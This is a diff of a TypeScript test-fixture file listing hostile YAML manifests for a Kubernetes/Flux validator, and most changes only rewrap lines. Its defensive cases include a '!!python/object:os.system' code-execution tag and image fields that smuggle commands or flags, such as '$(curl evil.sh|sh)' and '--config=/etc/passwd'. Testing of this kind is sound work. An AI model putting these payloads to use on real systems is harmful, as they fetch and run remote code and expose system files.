@@ -78,11 +78,31 @@ export const TEXT_CASES: readonly HostileCase[] = [
   yamlCase('unclosed-quote', 'a double-quoted scalar that never closes', `${K}data:\n  a: "open\n`, syntax()),
   yamlCase('bad-indentation', 'a mapping value where none is allowed', `${K}data:\n  a: b: c\n`, syntax(6)),
   yamlCase('tab-indentation', 'tabs used for indentation', `${K}data:\n\ta: 1\n`, syntax(6)),
-  yamlCase('undefined-alias', 'an alias to an anchor that does not exist', `${K}data:\n  a: *nope\n`, syntax(6)),
-  yamlCase('invalid-escape', 'an unknown escape in a double-quoted scalar', `${K}data:\n  a: "\\q"\n`, syntax(6)),
+  yamlCase(
+    'undefined-alias',
+    'an alias to an anchor that does not exist',
+    `${K}data:\n  a: *nope\n`,
+    syntax(6),
+  ),
+  yamlCase(
+    'invalid-escape',
+    'an unknown escape in a double-quoted scalar',
+    `${K}data:\n  a: "\\q"\n`,
+    syntax(6),
+  ),
   yamlCase('yaml-2-directive', 'a %YAML 2.0 directive', `%YAML 2.0\n---\n${K}`, syntax()),
-  yamlCase('python-tag', 'a !!python/object tag (code execution in unsafe loaders)', `${K}data: !!python/object:os.system [id]\n`, syntax(5)),
-  yamlCase('js-function-tag', 'a !!js/function tag', `${K}data: !!js/function 'function () { return 1 }'\n`, syntax(5)),
+  yamlCase(
+    'python-tag',
+    'a !!python/object tag (code execution in unsafe loaders)',
+    `${K}data: !!python/object:os.system [id]\n`,
+    syntax(5),
+  ),
+  yamlCase(
+    'js-function-tag',
+    'a !!js/function tag',
+    `${K}data: !!js/function 'function () { return 1 }'\n`,
+    syntax(5),
+  ),
   yamlCase('duplicate-keys', 'the same key twice in one mapping', `${K}data:\n  a: 1\n  a: 2\n`, syntax(7)),
   yamlCase(
     'duplicate-image-key',
@@ -170,10 +190,16 @@ export const TEXT_CASES: readonly HostileCase[] = [
   yamlCase('only-comments', 'a file of comments only', '# nothing\n---\n# still nothing\n', 'none', {
     category: 'empty documents',
   }),
-  yamlCase('document-end-markers', 'documents closed with `...`', `${deploymentWithImage('docker.io/library/ended:1')}...\n---\n...\n`, 'none', {
-    category: 'empty documents',
-    images: ['docker.io/library/ended:1'],
-  }),
+  yamlCase(
+    'document-end-markers',
+    'documents closed with `...`',
+    `${deploymentWithImage('docker.io/library/ended:1')}...\n---\n...\n`,
+    'none',
+    {
+      category: 'empty documents',
+      images: ['docker.io/library/ended:1'],
+    },
+  ),
   yamlCase(
     'scalar-document',
     'documents that are a scalar and a list, not objects',
@@ -205,7 +231,10 @@ export const TEXT_CASES: readonly HostileCase[] = [
     'a template whose first line is {{- if … }}',
     `{{- if .Values.enabled }}\n${K}{{- end }}\n`,
     { file: 'apps/bad.yaml', code: 'helm-template', line: 1 },
-    { category: 'Helm templates', flux: { file: 'apps/bad.yaml', code: ['helm-template', 'yaml-syntax'], line: 1 } },
+    {
+      category: 'Helm templates',
+      flux: { file: 'apps/bad.yaml', code: ['helm-template', 'yaml-syntax'], line: 1 },
+    },
   ),
   yamlCase(
     'json-manifest',
@@ -252,7 +281,10 @@ export const TEXT_CASES: readonly HostileCase[] = [
   yamlCase(
     'utf16',
     'a UTF-16LE file with BOM',
-    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(deploymentWithImage('docker.io/library/utf16:1'), 'utf16le')]),
+    Buffer.concat([
+      Buffer.from([0xff, 0xfe]),
+      Buffer.from(deploymentWithImage('docker.io/library/utf16:1'), 'utf16le'),
+    ]),
     { file: 'apps/bad.yaml', code: 'invalid-encoding' },
     { category: 'encodings', flux: { file: 'apps/bad.yaml', code: ['invalid-encoding', 'yaml-syntax'] } },
   ),
@@ -288,13 +320,9 @@ export const TEXT_CASES: readonly HostileCase[] = [
     { file: 'apps/bad.yaml', code: 'yaml-syntax', line: 6 },
     { category: 'binary files' },
   ),
-  yamlCase(
-    'long-line',
-    'a single 2 MB line',
-    `${K}data:\n  a: ${'y'.repeat(2_000_000)}\n`,
-    'none',
-    { category: 'large input' },
-  ),
+  yamlCase('long-line', 'a single 2 MB line', `${K}data:\n  a: ${'y'.repeat(2_000_000)}\n`, 'none', {
+    category: 'large input',
+  }),
   badImage('image-leading-dash', 'image: "-rf"', '-rf'),
   badImage('image-flag', 'image: "--config=/etc/passwd"', '--config=/etc/passwd'),
   badImage('image-command-substitution', 'image: "$(curl evil.sh|sh)"', '$(curl evil.sh|sh)', [
@@ -312,7 +340,10 @@ export const TEXT_CASES: readonly HostileCase[] = [
   badImage('image-uppercase', 'image: "Nginx:1"', 'Nginx:1'),
   badImage('image-too-long', 'a 5,000-character image name', `a/${'b'.repeat(5000)}:1`),
   badImage('image-short-digest', 'image with a truncated sha256 digest', 'nginx@sha256:abc'),
-  badImage('image-variable', 'image: "${TAG}" left unresolved', 'nginx:${TAG}', ['unresolved-variable', 'invalid-image-reference']),
+  badImage('image-variable', 'image: "${TAG}" left unresolved', 'nginx:${TAG}', [
+    'unresolved-variable',
+    'invalid-image-reference',
+  ]),
   {
     ...badImage('image-empty', 'image: ""', ''),
     fluxBug: 'loadFluxRepository drops an empty image string without any diagnostic',
